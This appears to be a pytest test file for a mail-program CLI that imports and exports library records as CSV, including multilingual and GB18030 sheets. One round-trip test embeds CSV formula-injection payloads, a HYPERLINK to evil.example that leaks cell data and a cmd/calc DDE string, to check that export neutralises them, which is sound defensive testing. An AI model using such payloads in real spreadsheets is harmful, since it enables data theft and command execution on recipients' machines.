"""`mailflow libraries import/export`: the committee's spreadsheet in, every library out."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import sqlalchemy as sa
from click.testing import CliRunner, Result
from sqlalchemy import func, select

from mailflow.admin.csv_rows import Importable, parse_rows
from mailflow.app import Services
from mailflow.cli import main
from mailflow.clock import FrozenClock
from mailflow.dispatch.timers import fire_due_timers
from mailflow.inbound.intake import Incoming, store
from mailflow.runtime import Runtime
from mailflow.store.schema import Contact, History, Library, Outbox, Timer
from tests.helpers import (
    APPLICATION_MISSING_CITY,
    PROGRAM,
    SECRET,
    STAFF,
    application,
    confirm_stored,
    mail,
)

# What a committee keeps today: mixed languages, a name in the e-mail cell, a notes column,
# placeholders, quoted commas, upper-case addresses, and not every row with a state or date.
COMMITTEE_CSV = """\
Library,Type,Country,City,Contact,Email,Languages spoken,Population served,Interests,Notes,state,created
Biblioteca Municipal de Segovia,Public library,Spain,Segovia,Maria Lopez,maria@biblioteca.example.es,"Spanish, English","52,000","children's reading, local history",met at IFLA,seeking,2025-03-01
杭州市西湖区图书馆,公共图书馆,中国,杭州,王丽,wangli@library.example.cn,中文，英语,80万,儿童阅读,,,2025-04-15
Nairobi Community Library,community library,Kenya,Nairobi,John Mwangi,JOHN@NAIROBI-LIB.example.ke,"English, Swahili",,,,,
北京大学图书馆,大学图书馆,中国,北京,李明,liming@lib.pku.example.cn,中英文,,,,hidden,2024-01-10
Stadtbibliothek Köln,Public,Germany,Köln,,Anna Schmidt <anna@stadtbib.example.de>,Deutsch; English,,,left the program,withdrawn,2023-06-30
Escuela Primaria Benito Juárez,School library,Mexico,Oaxaca,Lucía Hernández,lucia@escuela.example.mx,Spanish,,,,seeking,2025/9/2
Bibliothèque municipale de Lyon,public,France,N/A,Claire Martin,claire@bm-lyon.example.fr,French,,,city to confirm,incomplete,2025-10-01
上海市少年儿童图书馆,少儿图书馆,中国,上海,张华,zhanghua@sst.example.cn,中文,,,,,2025-05-20
Auckland Libraries,public,New Zealand,Auckland,Tom Brown,tom@aucklandlibraries.example.nz,English,,,,seeking,2025-07-07
State Library Research Centre,Research,Australia,Melbourne,Kate Lee,kate@slrc.example.au,English,,,,,2025-08-08
"""

# The same kind of sheet saved by a European-locale Excel: semicolons, other column names.
SEMICOLON_CSV = """\
Name;Country;City;Type;E-mail address;Contact person;Languages
Biblioteca Pública de Cusco;Peru;Cusco;public;ana@bp-cusco.example.pe;Ana Quispe;Español, English
Biblioteca Central UNAL;Colombia;Bogotá;university;luis@unal.example.co;Luis Gómez;Spanish
"""

# A sheet kept in Chinese Excel: GB18030/GBK bytes, Chinese column names.
GB_CSV = """\
图书馆名称,图书馆类型,国家,城市,联系人,电子邮件,工作语言,状态,创建日期
广州图书馆,公共图书馆,中国,广州,陈静,chenjing@gzlib.example.cn,中文，英语,,2025-02-02
深圳大学城图书馆,高校图书馆,中国,深圳,刘洋,liuyang@utsz.example.cn,中英双语,hidden,2024-12-12
"""


@pytest.fixture
def fresh_url(db_url: str, tmp_path: Path) -> Iterator[str]:
    """A second empty database on the same backend, for importing what was exported."""
    if db_url.startswith("sqlite"):
        yield f"sqlite:///{tmp_path / 'fresh.sqlite3'}"
        return
    base = db_url.split("?", 1)[0]
    schema = "t_" + uuid.uuid4().hex[:12]
    engine = sa.create_engine(base)
    with engine.begin() as conn:
        conn.execute(sa.text(f'CREATE SCHEMA "{schema}"'))
    yield f"{base}?options=-csearch_path%3D{schema}"
    with engine.begin() as conn:
        conn.execute(sa.text(f'DROP SCHEMA "{schema}" CASCADE'))
    engine.dispose()


def _env(url: str, tmp_path: Path) -> dict[str, str]:
    return {
        "MAILFLOW_DATABASE_URL": url,
        "MAILFLOW_PROGRAM_SECRET": SECRET,
        "MAILFLOW_PROGRAM_ADDRESS": PROGRAM,
        "MAILFLOW_PROGRAM_STAFF": STAFF,
        "MAILFLOW_STAFF_TRUSTED_AUTHSERV_IDS": "mx.program.example",
        "MAILFLOW_INBOUND_LISTEN": "off",
        "MAILFLOW_OUTBOUND_TRANSPORT": "maildir",
        "MAILFLOW_OUTBOUND_MAILDIR": str(tmp_path / "outgoing"),
        "MAILFLOW_CONFIG": "",
    }


Run = Callable[..., Result]


@pytest.fixture
def cli(
    make_services: Callable[..., Services], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> tuple[Services, Run]:
    monkeypatch.chdir(tmp_path)
    services = make_services(MAILFLOW_OUTBOUND_TRANSPORT="maildir", MAILFLOW_CONFIG="")
    runner = CliRunner(env=_env(str(services.db.url), tmp_path))

    def run(*args: str) -> Result:
        return runner.invoke(main, list(args))

    return services, run


def _write(tmp_path: Path, name: str, text: str, encoding: str = "utf-8") -> str:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return str(path)


def _problems(result: Result) -> list[str]:
    return [
        line for line in result.stderr.splitlines() if line.startswith("row ") or "nothing" in line
    ]


def _libraries(services: Services) -> list[tuple]:
    with services.db.unit_of_work() as session:
        return [
            (lib.name, lib.country, lib.state, sorted(c.email for c in lib.contacts))
            for lib in session.scalars(select(Library).order_by(Library.id))
        ]


def _count(services: Services, model: type) -> int:
    with services.db.unit_of_work() as session:
        return session.scalar(select(func.count()).select_from(model))


def test_committee_csv_imports(cli: tuple[Services, Run], tmp_path: Path) -> None:
    services, run = cli
    result = run("libraries", "import", _write(tmp_path, "committee.csv", COMMITTEE_CSV))
    assert result.exit_code == 0, result.output
    assert result.stderr.count("unknown column") == 1
    assert "warning: unknown column 'Notes' ignored" in result.stderr
    assert "imported 10 library(ies): #1, #2, #3, #4, #5, #6, #7, #8, #9, #10" in result.stdout
    assert _libraries(services) == [
        ("Biblioteca Municipal de Segovia", "Spain", "seeking", ["maria@biblioteca.example.es"]),
        ("杭州市西湖区图书馆", "中国", "seeking", ["wangli@library.example.cn"]),
        ("Nairobi Community Library", "Kenya", "seeking", ["john@nairobi-lib.example.ke"]),
        ("北京大学图书馆", "中国", "hidden", ["liming@lib.pku.example.cn"]),
        ("Stadtbibliothek Köln", "Germany", "withdrawn", ["anna@stadtbib.example.de"]),
        ("Escuela Primaria Benito Juárez", "Mexico", "seeking", ["lucia@escuela.example.mx"]),
        ("Bibliothèque municipale de Lyon", "France", "incomplete", ["claire@bm-lyon.example.fr"]),
        ("上海市少年儿童图书馆", "中国", "seeking", ["zhanghua@sst.example.cn"]),
        ("Auckland Libraries", "New Zealand", "seeking", ["tom@aucklandlibraries.example.nz"]),
        ("State Library Research Centre", "Australia", "seeking", ["kate@slrc.example.au"]),
    ]
    with services.db.unit_of_work() as session:
        segovia, hangzhou, nairobi, peking, koeln, oaxaca, lyon = (
            session.get(Library, i) for i in range(1, 8)
        )
        assert segovia.fields == {
            "library_name": "Biblioteca Municipal de Segovia", "library_type": "public",
            "country": "Spain", "city": "Segovia", "contact_name": "Maria Lopez",
            "contact_email": "maria@biblioteca.example.es", "languages": "es,en",
            "size": "52,000", "interests": "children's reading, local history",
        }  # fmt: skip
        assert segovia.created_at == datetime(2025, 3, 1, tzinfo=UTC)
        assert segovia.language == "en" and segovia.missing == [] and not segovia.hidden
        assert (hangzhou.library_type, hangzhou.city, hangzhou.language) == ("public", "杭州", "zh")
        assert hangzhou.fields["languages"] == "zh,en"
        assert nairobi.fields["languages"] == "en,Swahili"
        assert (peking.library_type, peking.hidden, peking.fields["languages"]) == (
            "academic", True, "zh,en",
        )  # fmt: skip
        assert koeln.contacts[0].name == "Anna Schmidt" and koeln.fields["languages"] == "de,en"
        assert oaxaca.library_type == "school"
        assert oaxaca.created_at == datetime(2025, 9, 2, tzinfo=UTC)
        assert lyon.missing == ["city"] and "city" not in lyon.fields
        history = session.scalars(select(History).order_by(History.id)).all()
        assert len(history) == 10
        first = history[0]
        assert (first.record_type, first.record_id, first.from_state, first.to_state) == (
            "library", 1, "new", "seeking",
        )  # fmt: skip
        assert (first.cause, first.event, first.note) == (
            "cli", "import", "imported from committee.csv row 2",
        )  # fmt: skip
        assert history[6].note == "imported from committee.csv row 8"
        assert history[6].to_state == "incomplete"
    assert _count(services, Outbox) == 0  # no acknowledgement: the committee knows them


def test_semicolon_and_gb18030_files(cli: tuple[Services, Run], tmp_path: Path) -> None:
    services, run = cli
    semi = run("libraries", "import", _write(tmp_path, "eu.csv", SEMICOLON_CSV))
    assert semi.exit_code == 0, semi.output
    assert semi.stderr.splitlines() == ["eu.csv: utf-8, delimiter ';'"]  # no warning
    gb = run("libraries", "import", _write(tmp_path, "gb.csv", GB_CSV, encoding="gb18030"))
    assert gb.exit_code == 0, gb.output
    assert gb.stderr.splitlines() == ["gb.csv: gb18030, delimiter ','"]
    assert "imported 2 library(ies): #3, #4" in gb.stdout
    assert _libraries(services) == [
        ("Biblioteca Pública de Cusco", "Peru", "seeking", ["ana@bp-cusco.example.pe"]),
        ("Biblioteca Central UNAL", "Colombia", "seeking", ["luis@unal.example.co"]),
        ("广州图书馆", "中国", "seeking", ["chenjing@gzlib.example.cn"]),
        ("深圳大学城图书馆", "中国", "hidden", ["liuyang@utsz.example.cn"]),
    ]
    with services.db.unit_of_work() as session:
        cusco, unal, guangzhou, shenzhen = (session.get(Library, i) for i in range(1, 5))
        assert cusco.contacts[0].name == "Ana Quispe"
        assert (cusco.library_type, cusco.fields["languages"]) == ("public", "es,en")
        assert (unal.library_type, unal.fields["languages"]) == ("academic", "es")
        assert (guangzhou.city, guangzhou.fields["contact_name"]) == ("广州", "陈静")
        assert guangzhou.created_at == datetime(2025, 2, 2, tzinfo=UTC)
        assert (shenzhen.library_type, shenzhen.fields["languages"]) == ("academic", "zh,en")


def test_bad_rows_import_nothing_and_are_all_named(
    cli: tuple[Services, Run], tmp_path: Path
) -> None:
    services, run = cli
    lines = COMMITTEE_CSV.splitlines()
    lines[4] = lines[4].replace("liming@lib.pku.example.cn", "liming@")  # row 5
    lines[7] = lines[7].replace(",France,N/A,", ",,,").replace(",incomplete,", ",,")  # row 8
    result = run("libraries", "import", _write(tmp_path, "bad.csv", "\n".join(lines) + "\n"))
    assert result.exit_code == 1
    assert _problems(result) == [
        "row 5: contact_email 'liming@' is not an e-mail address",
        "row 8: missing country, city",
        "bad.csv: 2 problem(s); nothing imported",
    ]
    assert "imported" not in result.stdout
    assert _count(services, Library) == _count(services, Contact) == _count(services, History) == 0


def test_dry_run_creates_nothing(cli: tuple[Services, Run], tmp_path: Path) -> None:
    services, run = cli
    result = run("libraries", "import", "--dry-run", _write(tmp_path, "c.csv", COMMITTEE_CSV))
    assert result.exit_code == 0, result.output
    assert "row 3: 杭州市西湖区图书馆 (中国) -> seeking; wangli@library.example.cn" in result.stdout
    assert "row 8: Bibliothèque municipale de Lyon (France) -> incomplete" in result.stdout
    assert "dry run: would import 10 library(ies); nothing written" in result.stdout
    assert _count(services, Library) == _count(services, Timer) == _count(services, History) == 0


def test_duplicates_refused_in_the_file_and_against_the_database(
    cli: tuple[Services, Run], tmp_path: Path
) -> None:
    services, run = cli
    twice = SEMICOLON_CSV + (
        "Biblioteca Pública de Cusco;Perú;Cusco;public;otra@bp-cusco.example.pe;Ana;Spanish\n"
        "Another Library;Chile;Santiago;public;LUIS@unal.example.co;Luis;Spanish\n"
    )
    result = run("libraries", "import", _write(tmp_path, "twice.csv", twice))
    assert result.exit_code == 1
    assert _problems(result) == [
        "row 4: library 'Biblioteca Pública de Cusco' (Perú) is also on row 2",
        "row 5: contact_email 'luis@unal.example.co' is also on row 3",
        "twice.csv: 2 problem(s); nothing imported",
    ]
    assert _count(services, Library) == 0

    assert run("libraries", "import", _write(tmp_path, "eu.csv", SEMICOLON_CSV)).exit_code == 0
    again = (
        "Library,Country,City,Type,Email,Contact,Languages\n"
        "Biblioteca Central UNAL,Colombia,Medellín,academic,new@unal.example.co,Eva,Spanish\n"
        "Nueva Biblioteca,Peru,Lima,public,ANA@bp-cusco.example.pe,Ana,Spanish\n"
        "Fresh Library,Chile,Santiago,public,fresh@lib.example.cl,Pia,Spanish\n"
    )
    result = run("libraries", "import", _write(tmp_path, "again.csv", again))
    assert result.exit_code == 1
    assert _problems(result) == [
        "row 2: library 'Biblioteca Central UNAL' (Colombia) already exists as #2",
        "row 3: contact_email 'ana@bp-cusco.example.pe' is already a contact of library #1 "
        "(Biblioteca Pública de Cusco)",
        "again.csv: 2 problem(s); nothing imported",
    ]
    assert _count(services, Library) == 2


def test_seeking_libraries_get_a_keep_listed_timer(
    cli: tuple[Services, Run], tmp_path: Path
) -> None:
    services, run = cli
    assert run("libraries", "import", _write(tmp_path, "c.csv", COMMITTEE_CSV)).exit_code == 0
    with services.db.unit_of_work() as session:
        timers = {
            (t.record_id, t.name): t
            for t in session.scalars(select(Timer).where(Timer.status == "pending"))
        }
    assert sorted(k for k in timers if k[1] == "keep-listed") == [
        (1, "keep-listed"), (2, "keep-listed"), (3, "keep-listed"), (6, "keep-listed"),
        (8, "keep-listed"), (9, "keep-listed"), (10, "keep-listed"),
    ]  # fmt: skip
    segovia = timers[(1, "keep-listed")]
    assert (segovia.state, segovia.sequence) == ("seeking", 1)
    assert segovia.due_at == datetime(2025, 3, 1, tzinfo=UTC) + timedelta(days=182)
    # Lyon is incomplete: it gets that state's reminders; hidden/withdrawn get none.
    assert {k[1] for k in timers if k[0] == 7} == {"missing-reminder", "application-expires"}
    assert not [k for k in timers if k[0] in (4, 5)]

    # When it is due, the library is asked like everyone else (after the others expire too).
    clock = FrozenClock(datetime(2025, 9, 1, tzinfo=UTC))
    fire_due_timers(services.db, clock, services.workflow)
    with services.db.unit_of_work() as session:
        asked = session.scalars(select(Outbox).where(Outbox.template == "library-keep-listed"))
        assert [row.recipients for row in asked] == [["maria@biblioteca.example.es"]]
        assert session.get(Library, 1).data["awaiting_keep_listed"] is True


def test_export_then_import_round_trips(
    cli: tuple[Services, Run],
    make_services: Callable[..., Services],
    fresh_url: str,
    tmp_path: Path,
) -> None:
    services, run = cli
    # Libraries as mail made them (an incomplete one among them), and some from a sheet.
    with services.db.unit_of_work() as session:
        for raw in (application(1), application(2, lang="zh"), mail(body=APPLICATION_MISSING_CITY,
                    sender="John Mwangi <john@nairobi.example.ke>")):  # fmt: skip
            store(session, Incoming(raw=raw, source="file", mailbox="test"), services.clock.now())
    assert Runtime(services).process().done == 3
    assert confirm_stored(services) == 3  # the applicants answer the confirmation mail
    assert run("libraries", "import", _write(tmp_path, "gb.csv", GB_CSV, "gb18030")).exit_code == 0
    # Library text a spreadsheet would run as a formula (CSV injection), one per trigger.
    formulas = {
        "interests": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "communication": "+e-mail, monthly",
        "contact_name": "-John Mwangi",
        "commitment": "@SUM(1+1)*cmd|' /C calc'!A0",
        "website": "\thttps://nairobi.example.ke",
        "size": "\r12,000",
    }
    with services.db.unit_of_work() as session:
        session.get(Library, 4).contacts[0].status = "bouncing"
        nairobi = session.get(Library, 3)
        nairobi.fields = {**nairobi.fields, **formulas}
    exported = run("libraries", "export")
    assert exported.exit_code == 0, exported.output
    cells = [
        cell
        for row in csv.reader(io.StringIO(exported.stdout_bytes.decode("utf-8-sig"), newline=""))
        for cell in row
    ]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for value in formulas.values():
        assert "'" + value in cells
    assert exported.stdout_bytes.startswith(b"\xef\xbb\xbf")
    header = exported.stdout_bytes.decode("utf-8-sig").splitlines()[0]
    assert header == (
        "id,state,created,library_name,library_type,country,city,contact_name,contact_email,"
        "languages,size,interests,communication,commitment,website,timezone,public_listing,contacts"
    )
    path = tmp_path / "all.csv"
    assert run("libraries", "export", str(path)).exit_code == 0
    assert path.read_bytes() == exported.stdout_bytes

    fresh = make_services(**_env(fresh_url, tmp_path))
    result = CliRunner(env=_env(fresh_url, tmp_path)).invoke(
        main, ["libraries", "import", str(path)]
    )
    assert result.exit_code == 0, result.output
    assert "warning" not in result.stderr  # every exported column is understood
    before, after = _libraries(services), _libraries(fresh)
    assert after == before
    assert [row[:3] for row in after] == [
        ("Biblioteca Municipal de Segovia", "Spain", "seeking"),
        ("杭州市西湖区图书馆", "中国", "seeking"),
        ("Nairobi Community Library", "Kenya", "incomplete"),
        ("广州图书馆", "中国", "seeking"),
        ("深圳大学城图书馆", "中国", "hidden"),
    ]

    def details(s: Services) -> list[tuple]:
        with s.db.unit_of_work() as session:
            return [
                (lib.fields, lib.library_type, lib.city, lib.language, lib.missing, lib.hidden,
                 lib.timezone, lib.created_at, sorted((c.email, c.status) for c in lib.contacts))
                for lib in session.scalars(select(Library).order_by(Library.id))
            ]  # fmt: skip

    assert details(fresh) == details(services)
    assert details(fresh)[3][-1] == [("chenjing@gzlib.example.cn", "bouncing")]
    assert details(fresh)[2][4] == ["city"]
    assert {k: details(fresh)[2][0][k] for k in formulas} == formulas  # the `'` is taken off


ALLOWED = Importable(("seeking", "incomplete", "hidden", "withdrawn", "unreachable"), "seeking")


def test_parse_rows_without_a_database() -> None:
    now = datetime(2026, 11, 21, tzinfo=UTC)
    excel = "sep=;\r\nLibrary;Country;City;Type;Email;Contact;Languages;state\r\n" + (
        "Lima Library;Peru;Lima;public;lima@lib.example.pe;Rosa;Spanish;partnered\r\n"
    )
    result = parse_rows(("\ufeff" + excel).encode("utf-8"), now, ALLOWED)
    assert (result.delimiter, result.encoding) == (";", "utf-8")
    assert result.errors == [
        "row 2: state 'partnered' cannot be imported; expected one of seeking, incomplete, "
        "hidden, withdrawn, unreachable"
    ]
    tabs = (
        "图书馆名称\t国家\t电子邮件\tcontacts\tcreated\tstate\n"
        "成都图书馆\t中国\t待填\tli@cd.example.cn:bouncing; wu@cd.example.cn\t2025-13-01\t\n"
        "重庆图书馆\t中国\tqin@cq.example.cn\tqin@cq.example.cn:failed\t2025-1-5\tincomplete\n"
    )
    result = parse_rows(tabs.encode("gb18030"), now, ALLOWED)
    assert result.errors == [
        "row 2: missing library_type, city, contact_name, languages",
        "row 2: created '2025-13-01' is not an ISO date (2024-03-05)",
    ]
    (chongqing,) = result.rows
    assert (chongqing.row, chongqing.state, chongqing.created) == (
        3, "incomplete", datetime(2025, 1, 5, tzinfo=UTC),
    )  # fmt: skip
    assert chongqing.contacts == [("qin@cq.example.cn", "failed")]
